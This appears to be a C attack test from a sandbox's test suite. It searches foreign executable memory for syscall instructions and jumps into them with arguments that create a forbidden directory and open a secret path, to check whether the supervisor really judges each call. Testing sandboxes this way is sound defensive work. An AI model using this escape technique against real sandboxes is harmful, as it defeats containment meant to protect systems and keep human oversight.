/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Jumps to every `syscall` instruction of the landing page with the deed in the registers: a stop
 * there is no proof that the call was judged.
 */
#include "attack.h"

static void call_at(unsigned char *place, long number, const void *first, const void *second)
{
        if (fork() == 0) {
                long result;

                alarm(2);
                __asm__ volatile("xor %%edx, %%edx\n\tsub $128, %%rsp\n\tcall *%4"
                                 : "=a"(result)
                                 : "a"(number), "D"(first), "S"(second), "r"(place)
                                 : "rcx", "rdx", "r11", "memory");
                if (result >= 0 && number == SYS_openat)
                        deed_show((int) result);
                _exit(0);
        }
        wait_all();
}

static void try_all(char *start, size_t size)
{
        unsigned char *page = (unsigned char *) start;
        int tried = 0;

        for (size_t i = 0; i + 1 < size && tried < 24; i++) {
                if (page[i] != 0x0f || page[i + 1] != 0x05)
                        continue;
                for (int shift = 0; shift < 3; shift += 2) {
                        call_at(page + i + shift, SYS_mkdir, forbidden_directory(), (void *) 0700l);
                        call_at(page + i + shift, SYS_openat, (void *) (long) AT_FDCWD,
                                secret_path());
                }
                tried++;
        }
}

int main(void)
{
        if (each_foreign_mapping("r-x", try_all) == 0)
                supervisor_pid();
        return 0;
}
